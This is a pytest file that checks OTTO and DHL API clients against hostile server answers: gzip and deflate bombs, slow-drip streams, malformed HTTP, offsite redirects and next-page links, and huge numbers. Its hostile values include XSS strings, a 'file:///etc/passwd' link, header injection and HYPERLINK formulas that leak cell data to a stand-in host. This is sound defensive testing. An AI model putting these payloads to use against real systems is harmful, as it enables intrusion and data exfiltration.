"""Every kind of call x every kind of attack: each ends in an own error with a sentence, or in harmless records.

Times and sizes are those of `test_wire_limits`; here is the table.
"""

import gzip
import itertools
import json
import math
import time
import zlib
from concurrent.futures import ThreadPoolExecutor
from decimal import Decimal
from enum import Enum

import pytest

from dhl_api import DhlError
from otto_api import OttoError, connections
from otto_api.connections import Answer
from otto_api.foreign import Secrets
from otto_api.node import Node, Unreadable
from otto_api.wire import OddLinkError, next_query
from tests.unit.hostile import ACTING, READING, SECRET, SHIPMENT, TOKEN, Hostile, otto, whole
from tests.unit.hostile_calls import CALLS, READ, TOKEN_CALLS
from tests.unit.test_wire_limits import BOMB, HEAD, drip, flood

OWN = (OttoError, DhlError)
# Bytes an answer may have here, so that the table takes little time.
MOST = 500_000
LISTS = (
    "resources", "results", "productVariations", "marketPlaceStatus", "status", "variationPrices", "contentChanges",
    "brands", "positionItems", "items",
)  # fmt: skip
FIELDS = (
    "sku", "orderNumber", "salesOrderId", "positionItemId", "productReference", "id", "name", "shipmentId",
    "shipmentNo", "receiptNumber", "title", "detail", "carrier", "trackingNumber", "quantity", "amount",
    "access_token", "state", "total", "failed", "succeeded", "lastModified", "orderDate", "href", "rel",
    "returnShipmentId", "createdAt", "active", "usable", "b64", "message",
)  # fmt: skip


def page(value: str) -> bytes:
    """A body that every reader finds something in: each of its fields is the same JSON text."""
    fields = ",".join(f'"{name}":{value}' for name in FIELDS)
    record = f'{{{fields},"sstatus":{{"status":{value},"title":{value}}},"label":{{"b64":{value}}}}}'
    lists = ",".join(f'"{name}":[{record}]' for name in LISTS)
    return f'{{{fields},{lists},"links":[{{"rel":"next","href":{value}}}],"errors":[{record}]}}'.encode()


def deflated(content):
    return zlib.compress(content)


def body(content, *headers, status=200):
    return whole(status, content, *headers)


# Nothing of these can be read by anybody: whoever asks must be told so.
REFUSED = {
    "100 MB": flood(HEAD + b"Content-Length: 104857600\r\n\r\n", b" " * 100_000),
    "endless chunks": flood(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b" " * 65536 + b"\r\n"),
    "endless": flood(HEAD + b"\r\n", b" " * 100_000),
    "gzip bomb": body(BOMB, "Content-Encoding: gzip"),
    "x-gzip bomb": body(BOMB, "Content-Encoding: X-GZIP"),
    "deflate bomb": body(deflated(b" " * 50_000_000), "Content-Encoding: deflate"),
    "gzip in gzip": body(gzip.compress(gzip.compress(b"{}")), "Content-Encoding: gzip, gzip"),
    "gzip in gzip, said twice": body(gzip.compress(BOMB), "Content-Encoding: gzip", "Content-Encoding: gzip"),
    "gzip in deflate": body(deflated(BOMB), "Content-Encoding: gzip, deflate"),
    "br": body(b"\x8b\x00\x80{}\x03", "Content-Encoding: br"),
    "br after gzip": body(gzip.compress(b"\x8b\x00\x80{}\x03"), "Content-Encoding: br, gzip"),
    "zstd": body(b"\x28\xb5\x2f\xfd\x20\x02\x11\x00\x00{}", "Content-Encoding: zstd"),
    "unknown packing": body(b"{}", "Content-Encoding: aes128gcm"),
    "packing of 10,000 layers": body(b"{}", "Content-Encoding: " + "gzip," * 10_000 + "gzip"),
    "gzip without its end": body(gzip.compress(b"{}")[:-9], "Content-Encoding: gzip"),
    "half a body": lambda connection, _request: connection.sendall(HEAD + b"Content-Length: 99\r\n\r\n{}") or False,
    "chunk of a negative size": HEAD + b"Transfer-Encoding: chunked\r\n\r\n-5\r\n{}\r\n",
    "chunk of no size": HEAD + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n",
    "two lengths": body(b"{}", "Content-Length: 7"),
    "no HTTP": lambda connection, _request: connection.sendall(b"220 smtp.example ESMTP\r\n") or False,
    "HTTP/0.9": lambda connection, _request: connection.sendall(b"{}") or False,
    "status 000": whole("000", {}),
    "status 1000": whole("1000", {}),
    "a status of letters": whole("abc", {}),
    "hung up": lambda *_: False,
    "1,000 headers": whole(200, {}, *(f"X-{number}: y" for number in range(1000))),
    "a header of 1 MB": whole(200, {}, "X: " + "y" * 1_000_000),
    "endless headers": flood(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n" * 1000),
    "endless 100": flood(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 100),
    "endless 102": flood(b"", b"HTTP/1.1 102 Processing\r\n\r\n" * 100),
    "endless 103": flood(b"", b"HTTP/1.1 103 Early Hints\r\nLink: </a>\r\n\r\n" * 100),
    "101": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: h2c\r\nConnection: Upgrade\r\n\r\n",
    "103 and nothing": lambda connection, _request: connection.sendall(b"HTTP/1.1 103 X\r\n\r\n") or False,
    "a page": body(b"<html><script>alert(1)</script></html>"),
    "a page behind a mark of its coding": body(b"\xef\xbb\xbf<html>"),
    "a page behind blanks": body(b" " * 5000 + b"<!doctype html><p>"),
    "a page in UTF-16": body("<html></html>".encode("utf-16")),
}
# A byte each now and then, so that no limit on a single wait is ever reached.
SLOW = {
    "status line": drip(b"HTTP/1.1 2", b"0"),
    "headers": drip(b"HTTP/1.1 200 OK\r\n", b"X: y\r\n"),
    "body": drip(HEAD + b"Content-Length: 100000\r\n\r\n"),
    "chunks": drip(HEAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n"),
    "gzip": drip(HEAD + b"Content-Encoding: gzip\r\n\r\n\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03", b"\x00"),
    "103": drip(b"", b"HTTP/1.1 103 Early Hints\r\n\r\n"),
    "refusal": drip(b"HTTP/1.1 429 X\r\nContent-Length: 100000\r\n\r\n"),
    "nothing": drip(b"", b""),
}
NUMBERS = ("NaN", "Infinity", "-Infinity", "1e400", "-1e2000000", "1e-2000000", "1" + "0" * 5000, "-" + "9" * 200_000,
           "0." + "1" * 5000, "-0", "1E+30")  # fmt: skip
TEXTS = {
    "NUL": r'"a\u0000b"',
    "half a pair": r'"a\ud83d"',
    "the other half": r'"\udc00z"',
    "pairs in wrong order": r'"\udc00\ud83d"',
    "no character": r'"\uffff\ufffe"',
    "controls": r'"\u001b[31m\u0007\u007f\b"',
    "right to left": '"\u202e\u2066moc.rekcatta"',
    "100,000 letters": json.dumps("x" * 100_000),
    "script": '"<script>alert(1)</script><img src=x onerror=alert(1)>"',
    "formula": '"=HYPERLINK(\\"http://evil.example\\")"',
    "link to a script": '"javascript:alert(1)"',
    "link elsewhere": '"http://elsewhere.invalid/?a=1"',
    "link with a login": '"http://me:pass@127.0.0.1/?a=1"',
    "link to a file": '"file:///etc/passwd"',
    "header": '"a\\r\\nX-Injected: 1"',
    "object": '{"a":[{}]}',
    "list": "[[[]]]",
    "nothing": "null",
    "yes": "true",
}
# These can be read; what is read of them is harmless.
READABLE = {
    **{f"number {literal[:12]}": body(page(literal)) for literal in NUMBERS},
    **{f"text: {name}": body(page(text)) for name, text in TEXTS.items()},
    "deep lists": body(page("[" * 3000 + "]" * 3000)),
    "deep objects": body(page('{"a":' * 3000 + "1" + "}" * 3000)),
    "100,000 lists without an end": body(b"[" * 100_000),
    "a list that is a number": body(b'{"resources":5,"results":"x","items":{},"links":7,"errors":true}'),
    "a number": body(b"5"),
    "a text": body(b'"OK"'),
    "a list": body(b"[]"),
    "nothing": body(b"null"),
    "two values": body(b"{} {}"),
    "no quotes": body(b"{a: 1}"),
    "a mark of the coding": body(b"\xef\xbb\xbf" + page('"a"')),
    "two marks of the coding": body(b"\xef\xbb\xbf\xef\xbb\xbf" + page('"a"')),
    "UTF-16": body(page('"a"').decode().encode("utf-16")),
    "UTF-32": body(page('"a"').decode().encode("utf-32")),
    "no UTF-8": body(page('"a\u00e9"').decode().encode("latin-1")),
    "longer than needed": body(page('"?"').replace(b"?", b"\xc0\xaf\xed\xa0\x80\xf8\x88")),
    "NUL between values": body(page('"a"') + b"\x00"),
    "NUL inside of a text": body(page('"?"').replace(b"?", b"\x00")),
    "fields that are there twice": body(page('"a"')[:-1] + b"," + page('"b"')[1:]),
    "fields twice inside": body(page('{"sku":"a","sku":"b"}')),
    "many values": body(b'{"resources":[' + b"[]," * 5_000 + b"[]]}"),
    "103 before it": b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" + body(page('"a"')),
    "cookies": whole(200, page('"a"'), "Set-Cookie: intruder=1; Path=/", "Set-Cookie: big=" + "x" * 4000),
    "a Retry-After of 400 digits": whole(429, {}, "Retry-After: " + "9" * 400),
    "an error that is a list of lists": body(b'{"errors":[[[{"detail":[]}]]],"error":[[]],"title":{}}', status=400),
    "an error of 1,000 errors": body(b'{"errors":[' + b'{"title":"X"},' * 1_000 + b"{}]}", status=422),
    "204 with a body": whole(204, page('"a"')),
    "206": whole(206, page('"a"'), "Content-Range: bytes 0-9/1000000000000"),
    "599": whole(599, page('"<b>"')),
}  # fmt: skip
PLACES = (
    "{url}/there", "//{host}/there", "{url}", "https://{host}/", "http://me:pass@{host}/", "http://[::1", "\u00ff",
    "///", "file:///etc/passwd", "javascript:alert(1)", "/\\{host}", "http:{host}/x", "\tx", "",
)  # fmt: skip
REDIRECTS = [*zip(PLACES, itertools.cycle((307, 302, 301, 308, 303, 300, 305)), strict=False)]


@pytest.fixture
def serve(monkeypatch):
    """Start servers with these answers, to clients that take little."""
    monkeypatch.setattr("otto_api.transport.MOST_BYTES", MOST)
    monkeypatch.setattr("otto_api.client_receipts.MOST_PDF", MOST)
    monkeypatch.setattr("dhl_api.transport.MOST_BYTES", MOST)
    # Repeated once and at once: that the time of all tries is bounded is shown in `test_wire_limits`.
    monkeypatch.setattr(connections, "RETRY", connections.RETRY.new(total=1, backoff_factor=0))
    servers = []

    def start(*answers, token=None):
        server = Hostile(*answers)
        server.token_answer = token or server.token_answer
        servers.append(server)
        return server

    yield start
    for server in servers:
        server.close()


def outcome(call, server, timeout, most_seconds):
    """Return (what came back, the own error, what is wrong with either)."""
    started, found, error = time.monotonic(), None, None
    try:
        found = call(server, timeout=timeout)
    except OWN as caught:
        error = caught
    except Exception as caught:  # noqa: BLE001
        return None, None, f"{type(caught).__name__}: {caught}"[:300]
    wrong = [] if error is None else list(faults_of(error))
    wrong += [] if time.monotonic() - started < most_seconds else [f"took {time.monotonic() - started:.1f} s"]
    return found, error, "; ".join([*wrong, *harm_in(found)])


def faults_of(error):
    """Yield what is wrong with an own error: it is a sentence, short, of letters, and tells no secret."""
    words = error.words
    if not words.strip() or len(words) > 700 or not words.isprintable():
        yield f"no sentence: {words[:80]!r}"
    if error.__context__ is not None and not isinstance(error.__context__, OWN) and error.__suppress_context__ is False:
        yield f"a chain: {error.__context__!r}"
    if any(part in f"{error} {vars(error)}" for part in (SECRET, TOKEN)):
        yield "a secret"


def harm_in(value):
    """Yield what of a record could do harm: texts that cannot be stored, numbers nobody can calculate with."""
    if isinstance(value, dict):
        value = list(value.items())
    if isinstance(value, (list, tuple)):
        for entry in value:
            yield from harm_in(entry)
    elif hasattr(value, "__dataclass_fields__"):
        yield from harm_in([getattr(value, name) for name in value.__dataclass_fields__])
    elif isinstance(value, str) and not isinstance(value, Enum):
        if len(value) > MOST or any(ord(sign) < 9 or 0xD800 <= ord(sign) < 0xE000 for sign in value):
            yield f"text {value[:40]!r}"
    elif isinstance(value, (Decimal, float, int)) and (not math.isfinite(value) or abs(value) > 10**31):
        yield f"number {str(value)[:40]}"


def against(serve, calls, answer, *, must_fail, timeout=(0.5, 1), most_seconds=30, as_token=False):
    """Let all calls meet an attack, each at a server of its own; return what is wrong by call."""
    good = whole(200, {"resources": []})

    def one(name):
        server = serve(good, token=answer) if as_token else serve(answer)
        _found, error, wrong = outcome(calls[name], server, timeout, most_seconds)
        if must_fail and error is None and not wrong:
            wrong = "was taken for an answer"
        if as_token and server.asked:
            wrong += "; went on without a token"
        return name, wrong

    with ThreadPoolExecutor(24) as pool:
        return {name: wrong for name, wrong in pool.map(one, calls) if wrong}


@pytest.mark.parametrize("attack", REFUSED)
def test_what_nobody_can_read_ends_in_an_own_error(serve, attack):
    assert against(serve, CALLS, REFUSED[attack], must_fail=True) == {}
    assert against(serve, TOKEN_CALLS, REFUSED[attack], must_fail=True, as_token=True) == {}


@pytest.mark.parametrize("attack", READABLE)
def test_what_is_read_is_harmless(serve, attack):
    assert against(serve, CALLS, READABLE[attack], must_fail=False) == {}


@pytest.mark.parametrize("attack", sorted(set(READABLE) - {"103 before it", "cookies", "206"}))
def test_no_token_is_made_of_it(serve, attack):
    wrong = against(serve, TOKEN_CALLS, READABLE[attack], must_fail=False, as_token=True)
    # A text of plain letters is a token as good as any; what matters is what became of the rest.
    assert {name: text for name, text in wrong.items() if text != "; went on without a token"} == {}


@pytest.mark.parametrize("attack", SLOW)
def test_a_byte_now_and_then_ends_with_the_time_of_the_call(serve, attack):
    options = {"must_fail": True, "timeout": (0.2, 0.3), "most_seconds": 20}
    assert against(serve, CALLS, SLOW[attack], **options) == {}
    assert against(serve, TOKEN_CALLS, SLOW[attack], as_token=True, **options) == {}


@pytest.mark.parametrize(("place", "status"), REDIRECTS)
def test_no_call_and_no_login_goes_elsewhere(serve, place, status):
    elsewhere = serve(whole(200, {"access_token": "stolen", "expires_in": 1800}))
    host = elsewhere.url.removeprefix("http://")
    answer = whole(status, {}, "Location: " + place.format(url=elsewhere.url, host=host), f"Refresh: 0; {host}")
    assert against(serve, CALLS, answer, must_fail=True) == {}
    assert against(serve, TOKEN_CALLS, answer, must_fail=True, as_token=True) == {}
    assert not elsewhere.connections


LINKS = (
    "http://elsewhere.invalid/v4/orders?a=1", "//elsewhere.invalid/?a=1", "http://me@{host}/?a=1",
    "http://me:pass@{host}/?a=1", "http://{host}:1/?a=1", "http://{host}.elsewhere.invalid/?a=1", "http://[::1",
    "http://{host}@elsewhere.invalid/?a=1", "ftp://elsewhere.invalid/?a=1", "?" + "a" * 3000,
)  # fmt: skip


@pytest.mark.parametrize("link", LINKS)
def test_next_pages_lie_nowhere_else(serve, link):
    server = serve(b"")
    host = server.url.removeprefix("http://")
    links = {"links": [{"rel": "next", "href": link.format(host=host)}]}
    server.answers = [whole(200, {**{named: [{"sku": "A"}] for named in LISTS}, **links})]
    for call in READ.values():
        _found, _error, wrong = outcome(call, server, (1, 1), 30)
        assert not wrong
    heads = [request.split("\r\n")[0] for request in server.asked]
    assert not [head for head in heads if "elsewhere" in head or "a=1" in head]


def test_a_next_page_that_is_named_twice_is_none(serve):
    twice = b'{"resources":[{}],"links":[{"rel":"next","href":"/a?b=1"}],"links":[]}'
    both = b'{"resources":[{}],"links":[{"rel":"next","href":"/a?b=1","href":"/a?b=2"}]}'
    for text in (twice, both, both.replace(b'"rel":"next"', b'"rel":"next","rel":"self"')):
        with pytest.raises(OddLinkError):
            next_query(Secrets().read_json(text), "https://api.otto.market")
        with pytest.raises(OttoError):
            READING["orders"](serve(whole(200, text)))


# An announcement is not the answer


@pytest.mark.parametrize("status", [102, 103, 110, 199])
@pytest.mark.parametrize("name", ["cancel", "ship", "reduce a price"])
def test_r19_an_announcement_is_not_taken_for_the_answer(serve, status, name):
    """Python's own client makes 103 the answer: a cancellation counted as accepted that OTTO refused right after it."""
    announced = f"HTTP/1.1 {status} Early\r\nLink: </a>\r\n\r\n".encode()
    refusal = whole(409, {"errors": [{"title": "NOT_CANCELLABLE", "detail": "Too late"}]})
    with pytest.raises(OttoError) as caught:
        ACTING[name](serve(announced + refusal))
    assert caught.value.status == 409


def test_r19_an_answer_is_never_left_for_the_next_call(serve):
    """What is left on a connection would be the answer to another order's call."""

    def late(connection, _request):
        connection.sendall(b"HTTP/1.1 103 Early Hints\r\n\r\n")
        time.sleep(0.2)
        connection.sendall(whole(202, {"shipmentId": "first"}))

    server = serve(late, whole(202, {"shipmentId": "second"}))
    client = otto(server)
    assert [client.ship(SHIPMENT), client.ship(SHIPMENT)] == ["first", "second"]


def test_no_cookie_is_kept(serve):
    server = serve(whole(200, {"resources": []}, "Set-Cookie: intruder=1; Path=/"))
    server.token_answer = whole(200, {"access_token": TOKEN, "expires_in": 1800}, "Set-Cookie: other=2")
    client = otto(server)
    for _ in range(2):
        list(client.orders())
    assert len(server.heads) == 3
    assert not [head for head in server.heads if "cookie" in head.lower()]


# What an answer is made of


def test_a_page_is_a_page_whatever_stands_before_it():
    starts = ("", " \r\n\t", "\ufeff", "\x00\x00", "\ufeff \ufeff", " " * 60_000)
    for start in starts:
        assert Answer(200, {}, (start + "<html>").encode()).is_page, start[:9]
        assert Answer(200, {}, (start + "<?xml?>").encode()).is_page
    assert Answer(200, {"Content-Type": "TEXT/HTML"}, b"x").is_page
    assert not Answer(200, {}, b'{"a": "<html>"}').is_page


@pytest.mark.parametrize("text", ["=1+1", "{=1}", ' =HYPERLINK("http://evil/?"&A1)', "\u202e=1"])
def test_no_id_is_a_formula(text):
    for read in (Node(text).text, Node(text).key, Node(text).optional_text):
        with pytest.raises(Unreadable):
            read()


@pytest.mark.parametrize("text", ["=1+1", "=HYPERLINK(1)", "{=1}", " =1", "\u202a=1", "\x00=1"])
def test_no_text_for_people_is_a_formula(text):
    """Odoo's own export writes a text that begins so as a formula of the XLSX file."""
    node = Node(Secrets().read_json(json.dumps({"a": text}).encode())).get("a")
    for shown in (node.title(), node.optional_title(), Secrets().words(text)):
        assert shown.startswith("'")
    assert Node("+49 30 1").title() == "+49 30 1"


@pytest.mark.parametrize(
    "text", ['{"a": 1, "a": 2}', '{"a": 1, "a": true}', '{"a": "x", "a\\u0000": "y"}', '{"a": {}, "a": []}']
)
def test_a_field_with_two_values_has_none(text):
    node = Node(Secrets().read_json(text.encode())).get("a")
    for read in (node.text, node.optional_text, node.title, node.number, node.whole, node.flag, node.moment):
        with pytest.raises(Unreadable):
            read()
    with pytest.raises(Unreadable):
        node.get("b")


def test_a_field_that_is_said_twice_is_that_field():
    assert Secrets().read_json(b'{"a": {"b": [1]}, "a": {"b": [1]}}') == {"a": {"b": [1]}}
